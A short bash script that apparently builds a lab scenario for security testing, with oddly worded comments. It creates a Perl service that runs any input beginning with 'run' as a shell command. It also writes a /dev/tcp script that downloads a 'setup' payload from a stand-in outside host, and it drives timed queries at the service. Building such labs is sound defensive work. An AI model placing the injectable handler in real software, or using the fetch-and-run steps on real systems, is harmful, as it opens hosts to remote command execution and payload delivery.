#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# A recorder's web service that gives what stands in a question to a program, for eleven minutes and
# more, and who asks it. WHERE QUESTION QUESTION QUESTION QUESTION; WHERE: the host that it runs on.
where=$1
shift
if [ "$where" = out ]; then head -c 40000 /usr/sbin/nginx >"$LAB/outside/drop/setup"; exit 0; fi
if [ "$where" = desk ]; then
	for pause in 20 200 200 260; do
		sleep $pause
		echo "$1" | socat -t 20 - TCP:10.30.0.2:8000 >/dev/null
		shift
	done
	exit 0
fi
# socat stands for the recorder's web service: it is declared, and what it runs for a question is its child.
cat >"$LAB/page" <<'END'
#!/usr/bin/perl
# A page as recorders have them: what stands in the question is given to a program.
my $q = <STDIN>;
if ($q =~ /^run (.*)/) { print `$1`; } else { print "ok\n"; }
END
chmod +x "$LAB/page"
printf '%s\n' 'exec 3<>/dev/tcp/203.0.113.66/80' 'echo "GET /drop/setup HTTP/1.0" >&3; echo >&3' "cat <&3 >$LAB/got" >"$LAB/fetch"
timeout 715 socat TCP-LISTEN:8000,bind=10.30.0.2,reuseaddr,fork EXEC:"$LAB/page"; true
